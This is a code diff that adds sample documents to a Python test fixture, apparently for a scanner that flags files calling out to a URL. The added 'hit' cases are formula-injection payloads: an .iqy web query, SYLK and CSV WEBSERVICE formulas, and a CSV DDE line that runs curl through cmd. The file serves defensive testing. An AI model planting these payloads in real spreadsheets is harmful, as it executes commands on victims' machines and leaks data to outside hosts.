@@ -204,6 +204,17 @@ DOCUMENTS: dict[str, tuple[str, bytes]] = {
         "questions.doc",
         compound_file({"\x01Ole10Native": struct.pack("<I", 99) + packaged("note.bin", b"nothing in it")}),
     ),
+    "hit-web-query-file": ("timetable.iqy", f"WEB\r\n1\r\n{URL}?q=1\r\n\r\nSelection=AllTables\r\n".encode()),
+    "hit-sylk-formula": (
+        "timetable.slk",
+        f'ID;PWXL;N;E\r\nC;Y1;X1;K0;EWEBSERVICE("{URL}")\r\nE\r\n'.encode(),
+    ),
+    "hit-csv-formula": ("timetable.csv", f'Place,Hour\r\n"=WEBSERVICE(""{URL}"")",9\r\n'.encode()),
+    "hit-csv-command": ("timetable.csv", f"Place,Hour\r\n=cmd|'/c curl {URL}'!A0,9\r\n".encode()),
+    "near-csv-of-addresses": (
+        "timetable.csv",
+        f'Place,Page\r\nTerminal,{URL}\r\nPier (old),"see {URL}"\r\n'.encode(),
+    ),
 }
 
 
